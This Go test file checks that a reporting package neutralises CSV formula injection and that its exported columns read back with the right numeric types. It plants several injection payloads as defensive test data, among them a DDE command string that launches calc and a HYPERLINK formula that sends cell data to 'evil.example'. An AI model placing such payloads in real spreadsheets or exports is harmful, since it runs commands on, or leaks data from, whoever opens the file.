package reports

import (
	"context"
	"database/sql"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/socrx/socrx/disclosure"
)

// TestCSVFormulaCellsNeutralised plants spreadsheet formulas in every kind of text a
// report table carries (scheme ids, practice codes, quarantine sources and reasons, file
// names, kinds and hashes) and checks that no CSV cell under the reports directory starts
// a formula unless it is a number, and that the workbook holds the same text as text.
func TestCSVFormulaCellsNeutralised(t *testing.T) {
	db := fixtureDB(t)
	planted := map[string]string{
		"scheme":   "=cmd|' /C calc'!A0",
		"practice": "@SUM(1+1)*cmd|' /C calc'!A0",
		"reason":   `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"source":   "+1+1",
		"file":     "-2+3.csv",
		"kind":     "\t=1+1",
		"sha256":   "\r=1+1",
	}
	renameSchemes(t, db, map[string]string{"S1": planted["scheme"]})
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{`UPDATE practice_variation SET practice_code = ? WHERE practice_code = 'P06'`, []any{planted["practice"]}},
		{`UPDATE quarantine SET reason = ?, source = ?`, []any{planted["reason"], planted["source"]}},
		{`UPDATE ingested_files SET path = '/secure/' || ?, kind = ?, sha256 = ? WHERE file_id = 1`, []any{planted["file"], planted["kind"], planted["sha256"]}},
	} {
		if _, err := db.Exec(q.sql, q.args...); err != nil {
			t.Fatal(err)
		}
	}
	out := t.TempDir()
	if _, err := Run(context.Background(), db, testOptions(out)); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	csvs := 0
	err := filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(p) != ".csv" {
			return err
		}
		csvs++
		f, err := os.Open(p)
		if err != nil {
			return err
		}
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		for _, r := range recs {
			for _, c := range r {
				seen[c] = true
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					if _, err := strconv.ParseFloat(c, 64); err != nil {
						t.Errorf("%s: cell %q would run as a formula", filepath.Base(p), c)
					}
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if csvs < 10 {
		t.Errorf("checked %d CSV files", csvs)
	}
	for what, v := range planted {
		if !seen["'"+v] {
			t.Errorf("the planted %s is not in any CSV as text ('%q)", what, v)
		}
	}
	// numbers are untouched: a negative model output stays a number
	if !seen["-0.18"] {
		t.Error("a negative SII (-0.18) is not written as a plain number")
	}

	// The workbook writes strings as strings (shared strings), never as formulas, so the
	// text is kept as it is there: check that no cell holds a formula and the planted
	// texts read back unchanged as strings.
	wb, err := excelize.OpenFile(filepath.Join(out, "2024-Q1", "socrx-2024-Q1.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	found := map[string]bool{}
	for _, sh := range wb.GetSheetList() {
		rows, err := wb.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rows {
			for j, v := range r {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, err := wb.GetCellFormula(sh, cell); err != nil || f != "" {
					t.Errorf("%s!%s holds a formula %q (%v)", sh, cell, f, err)
				}
				for _, p := range planted {
					if v == p {
						found[p] = true
						if typ, _ := wb.GetCellType(sh, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("%s!%s: planted text stored as cell type %d", sh, cell, typ)
						}
					}
				}
			}
		}
	}
	for what, v := range planted {
		if !found[v] {
			t.Errorf("the planted %s is not in the workbook as text", what)
		}
	}
}

// TestCSVReadsAsNumbers loads every CSV file of a rendered report into DuckDB with its
// own type detection (as R's readr and pandas do) and checks that every count and value
// column reads as a number (a column of yes/no flags as booleans), each _suppressed flag
// as a boolean, and that a suppressed cell is empty: no column of numbers is turned into
// text by a marker such as "*".
func TestCSVReadsAsNumbers(t *testing.T) {
	out, _ := render(t)
	db := fixtureDB(t)
	r, err := Build(context.Background(), db, BuildOptions{Period: "2024-Q1", Policy: testOptions(out).Policy})
	if err != nil {
		t.Fatal(err)
	}
	numeric := regexp.MustCompile(`^(TINYINT|SMALLINT|INTEGER|BIGINT|HUGEINT|UTINYINT|USMALLINT|UINTEGER|UBIGINT|FLOAT|DOUBLE|DECIMAL\(\d+,\d+\))$`)
	integer := regexp.MustCompile(`^(TINYINT|SMALLINT|INTEGER|BIGINT|HUGEINT|UTINYINT|USMALLINT|UINTEGER|UBIGINT)$`)
	typed := 0 // numeric columns with values, whose type was checked
	for _, tbl := range r.Tables {
		t.Run(tbl.Name, func(t *testing.T) {
			path := filepath.Join(out, "2024-Q1", "csv", tbl.Name+".csv")
			src := "read_csv('" + strings.ReplaceAll(path, "'", "''") + "')"
			rows, err := db.Query("DESCRIBE SELECT * FROM " + src)
			if err != nil {
				t.Fatal(err)
			}
			types := map[string]string{}
			var order []string
			for rows.Next() {
				var name, typ string
				var null, key, def, extra sql.NullString
				if err := rows.Scan(&name, &typ, &null, &key, &def, &extra); err != nil {
					t.Fatal(err)
				}
				types[name] = typ
				order = append(order, name)
			}
			if err := rows.Close(); err != nil {
				t.Fatal(err)
			}
			bools := csvBoolWords(tbl)
			// every count in one pass over the file: per column its values and, for a
			// suppressible one, the suppressed cells that still hold a value
			var exprs []string
			for _, c := range tbl.Columns {
				if _, ok := types[c.Name]; !ok {
					continue
				}
				exprs = append(exprs, `count("`+c.Name+`")`)
				if flag := c.Name + "_suppressed"; suppressible(c) && types[flag] == "BOOLEAN" {
					exprs = append(exprs, `count(*) FILTER (WHERE "`+flag+`" AND "`+c.Name+`" IS NOT NULL)`)
				}
			}
			counts := make([]int64, len(exprs))
			if len(exprs) > 0 {
				dest := make([]any, len(counts))
				for i := range counts {
					dest[i] = &counts[i]
				}
				if err := db.QueryRow("SELECT " + strings.Join(exprs, ", ") + " FROM " + src).Scan(dest...); err != nil {
					t.Fatal(err)
				}
			}
			next := func() int64 { n := counts[0]; counts = counts[1:]; return n }
			want := 0
			for j, c := range tbl.Columns {
				want++
				typ, ok := types[c.Name]
				if !ok {
					t.Errorf("column %s missing (read %v)", c.Name, order)
					continue
				}
				values := next()
				if c.Kind != disclosure.KindText && values > 0 {
					typed++
				}
				switch {
				case c.Kind == disclosure.KindText:
				case values == 0:
					// no value at all: there is nothing to detect a type from (readr and
					// pandas read such a column as logical or float, DuckDB as text)
					t.Logf("%s has no values", c.Name)
				case bools[j]:
					if typ != "BOOLEAN" {
						t.Errorf("%s (yes/no flags) reads as %s", c.Name, typ)
					}
				case c.Kind == disclosure.KindCount || c.Kind == disclosure.KindPlain:
					if !integer.MatchString(typ) {
						t.Errorf("%s (counts) reads as %s", c.Name, typ)
					}
				case !numeric.MatchString(typ):
					t.Errorf("%s (values) reads as %s", c.Name, typ)
				}
				flag := c.Name + "_suppressed"
				if !suppressible(c) {
					if _, ok := types[flag]; ok {
						t.Errorf("%s is flagged though it cannot be suppressed", c.Name)
					}
					continue
				}
				want++
				if types[flag] != "BOOLEAN" {
					t.Errorf("%s reads as %q, want BOOLEAN", flag, types[flag])
					continue
				}
				if bad := next(); bad > 0 {
					t.Errorf("%s: %d suppressed cells hold a value", c.Name, bad)
				}
			}
			if len(order) != want {
				t.Errorf("%d columns %v, want %d", len(order), order, want)
			}
		})
	}
	if typed < 100 {
		t.Errorf("checked the type of only %d numeric columns with values", typed)
	}
}
